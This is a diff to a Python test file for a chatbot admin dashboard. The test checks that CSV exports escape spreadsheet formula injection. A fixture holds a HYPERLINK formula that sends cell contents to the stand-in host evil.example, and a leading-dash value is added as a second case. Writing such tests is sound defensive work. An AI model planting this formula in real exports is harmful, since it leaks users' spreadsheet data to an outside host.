@@ -20,13 +20,18 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
 def test_residents_formulas_are_neutralised_in_dashboard_csv(app, client, fake_line) -> None:
     for _ in range(2):
         post_webhook(app.test_client(), body_of(text_event(FORMULA)))
+    with app.extensions["machimado"].sessions() as session:  # and an FAQ question that a spreadsheet would run
+        entry = session.scalars(select(FaqEntry).where(FaqEntry.key == "gomi-sodai")).one()
+        entry.question = "-粗大ごみの出し方"
+        session.commit()
+    post_webhook(app.test_client(), body_of(text_event("粗大ごみの出し方")))
     login(client, make_staff(app)["viewer"])
-    for name in ("top", "unanswered"):
+    for name, cell in (("unanswered", FORMULA), ("top", "-粗大ごみの出し方")):
         response = client.get(f"/admin/dashboard/{name}.csv")
         assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # once
         rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
         cells = [row[0] for row in rows[1:]]
-        assert "'" + FORMULA in cells and FORMULA not in cells, name
+        assert "'" + cell in cells and cell not in cells, name
 
 
 def test_faq_csv_export_neutralises_and_import_restores_exactly(app, client) -> None:
